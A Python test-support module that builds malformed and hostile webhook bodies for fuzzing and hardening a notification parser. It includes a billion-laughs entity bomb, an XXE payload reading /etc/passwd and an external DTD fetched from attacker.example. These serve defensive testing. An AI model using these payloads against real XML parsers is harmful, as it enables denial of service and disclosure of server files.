"""Hostile bodies built from the seed samples: one targeted edit each, or a sample re-encoded,
cut or padded. Shared by the parser's table (``tests/unit/test_hostile_inputs.py``), the
hostile-input corpus run over HTTP (``reliability/corpus/``) and the fuzz tests.
"""

from __future__ import annotations

import codecs
import json
from typing import Any

from hypothesis import strategies as st

from tests.support.payloads import SAMPLES, payload_bytes

# --- One edit of a sample ---------------------------------------------------------------------


def edit(notification_type: str, fmt: str, old: bytes, new: bytes, count: int = 1) -> bytes:
    """The sample with ``old`` (found exactly ``count`` times) replaced by ``new``."""
    body = payload_bytes(notification_type, fmt)
    if body.count(old) != count:
        raise ValueError(f"{old!r} is not {count} time(s) in {notification_type}.{fmt}")
    return body.replace(old, new)


def without_line(notification_type: str, fmt: str, fragment: bytes) -> bytes:
    """The sample without the one line that contains ``fragment``."""
    lines = payload_bytes(notification_type, fmt).splitlines(keepends=True)
    matching = [line for line in lines if fragment in line]
    if len(matching) != 1:
        raise ValueError(f"{fragment!r} is not on exactly one line of {notification_type}.{fmt}")
    return b"".join(line for line in lines if fragment not in line)


def json_with(notification_type: str, path: tuple[str | int, ...], value: object) -> bytes:
    """The JSON sample, re-serialised, with the value at ``path`` replaced."""
    document = json.loads(payload_bytes(notification_type, "json"))
    parent: Any = document
    for part in path[:-1]:
        parent = parent[part]
    parent[path[-1]] = value
    return json.dumps(document, indent=4).encode("utf-8")


def event_date(new: bytes, fmt: str = "json") -> bytes:
    """Subscribe with the third event's (``Events[2]``) date replaced."""
    if fmt == "xml":
        return edit("Subscribe", "xml", b">2024-08-07T12:46:13.0929985Z<", b">" + new + b"<")
    return edit("Subscribe", "json", b'"2024-08-07T12:46:13.0929985Z"', b'"' + new + b'"')


def recipient_count(value: bytes) -> bytes:
    """CampaignSent (JSON) with ``RecipientCount`` set to the raw JSON ``value``."""
    return edit("CampaignSent", "json", b'"RecipientCount": "2"', b'"RecipientCount": ' + value)


def nested(depth: int) -> bytes:
    return b"<Extra>" * depth + b"deep" + b"</Extra>" * depth


SUBSCRIBE_XML = payload_bytes("Subscribe", "xml")
SUBSCRIBE_JSON = payload_bytes("Subscribe", "json")
UNSUBSCRIBE_TEXT = payload_bytes("Unsubscribe", "xml").decode("utf-8")
BEFORE_MACHETQECC = UNSUBSCRIBE_TEXT[: UNSUBSCRIBE_TEXT.index("machetqecc")]
AFTER_MACHETQECC = UNSUBSCRIBE_TEXT[len(BEFORE_MACHETQECC) :]
LONE_HIGH_SURROGATE_LE = b"\x00\xd8"
"""U+D800 in UTF-16 LE, with no low surrogate after it."""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE SubscribedNotification [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<SubscribedNotification><ListName>&lol3;</ListName></SubscribedNotification>
"""
XXE = edit(
    "Subscribe",
    "xml",
    b"<SubscribedNotification ",
    b'<!DOCTYPE SubscribedNotification [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<SubscribedNotification ",
).replace(b"<ListName>WebhookTestList4</ListName>", b"<ListName>&xxe;</ListName>")
PARAMETER_ENTITIES = edit(
    "Subscribe",
    "xml",
    b"<SubscribedNotification ",
    b'<!DOCTYPE SubscribedNotification [\n  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n'
    b"  %remote;\n]>\n<SubscribedNotification ",
)


def json_without(notification_type: str, path: tuple[str | int, ...]) -> bytes:
    """The JSON sample, re-serialised, without the key (or list item) at ``path``."""
    document = json.loads(payload_bytes(notification_type, "json"))
    parent: Any = document
    for part in path[:-1]:
        parent = parent[part]
    del parent[path[-1]]
    return json.dumps(document, indent=4).encode("utf-8")


def xml_without(notification_type: str, element: str) -> bytes:
    """The XML sample without the first ``<element>`` (in a batch, the first event's), whole."""
    body = payload_bytes(notification_type, "xml")
    start = body.index(b"<" + element.encode() + b">")
    close = b"</" + element.encode() + b">"
    end = body.index(close, start) + len(close)
    line_start = body.rindex(b"\n", 0, start) + 1
    return body[:line_start] + body[end:].removeprefix(b"\n")


# --- A whole sample, re-encoded, cut or padded -------------------------------------------------

ENCODINGS = {
    "utf-8": (b"", "utf-8"),
    "utf-8-bom": (codecs.BOM_UTF8, "utf-8"),
    "utf-16-le-bom": (codecs.BOM_UTF16_LE, "utf-16-le"),
    "utf-16-be-bom": (codecs.BOM_UTF16_BE, "utf-16-be"),
    "utf-16-le": (b"", "utf-16-le"),
    "utf-16-be": (b"", "utf-16-be"),
    "utf-32-le-bom": (codecs.BOM_UTF32_LE, "utf-32-le"),
}
"""Name -> (byte-order mark, codec) of each encoding a body is written in."""


def encoded(notification_type: str, fmt: str, encoding: str) -> bytes:
    """The sample's text in one of :data:`ENCODINGS`."""
    bom, codec = ENCODINGS[encoding]
    return bom + payload_bytes(notification_type, fmt).decode("utf-8").encode(codec)


def truncated(body: bytes, fraction: float) -> bytes:
    """The first ``fraction`` of the body without its trailing whitespace (never all of it)."""
    content = body.rstrip()
    return content[: min(max(int(len(content) * fraction), 1), len(content) - 1)]


def padded(body: bytes, size: int) -> bytes:
    """The body followed by spaces, ``size`` bytes in all (whitespace after a document is
    allowed, and a space needs no escaping in an API Gateway event)."""
    if len(body) > size:
        raise ValueError(f"the body is already {len(body)} bytes, over {size}")
    return body + b" " * (size - len(body))


# --- Random mutations of the samples, for property and fuzz tests ------------------------------

INTERESTING = [
    b"<",
    b">",
    b"</",
    b"&",
    b"&lol;",
    b'"',
    b"{",
    b"[",
    b"]",
    b"}",
    b",",
    b"\\",
    b"\\ud800",
    b"\x00",
    b"\xff",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"<!DOCTYPE a>",
    b"<![CDATA[",
    b'xsi:nil="true"',
    b"NaN",
    b"9" * 5000,
    b"<Extra>" * 40,
]


@st.composite
def mutated_samples(draw: st.DrawFn) -> bytes:
    """A sample (as sent, or as UTF-16 LE with a BOM) with a few byte flips, cuts and inserts."""
    body = payload_bytes(*draw(st.sampled_from(SAMPLES)))
    if draw(st.booleans()):
        body = codecs.BOM_UTF16_LE + body.decode("utf-8").encode("utf-16-le")
    mutable = bytearray(body)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        at = draw(st.integers(min_value=0, max_value=max(len(mutable) - 1, 0)))
        kind = draw(st.sampled_from(("flip", "truncate", "insert", "delete")))
        if kind == "flip" and mutable:
            mutable[at] ^= 1 << draw(st.integers(min_value=0, max_value=7))
        elif kind == "truncate":
            del mutable[at:]
        elif kind == "insert":
            insert = draw(
                st.one_of(st.sampled_from(INTERESTING), st.binary(min_size=1, max_size=8))
            )
            mutable[at:at] = insert
        else:
            del mutable[at : at + draw(st.integers(min_value=1, max_value=16))]
    return bytes(mutable)
